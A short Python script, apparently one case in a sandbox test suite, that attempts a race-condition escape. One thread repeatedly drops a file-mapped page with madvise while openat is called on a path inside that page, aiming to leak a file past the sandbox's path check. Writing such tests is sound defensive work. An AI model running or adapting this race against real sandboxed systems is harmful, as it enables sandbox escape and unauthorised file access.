# SPDX-License-Identifier: Apache-2.0
# attack: the path lies in a private file mapping whose page is dropped and read again all the time
# class: race
# wins: leak
# needs: race map
from kit import *

fd = openat(BOX + '/race/pathmap')
addr = page(4096, 1, 0x02, None, fd)
tried()
end = loop_thread(lambda: sc('madvise', addr, 4096, 4))
rounds(lambda i: took(sc('openat', AT_FDCWD, ctypes.c_void_p(addr + 1024), 0, 0)))
end()
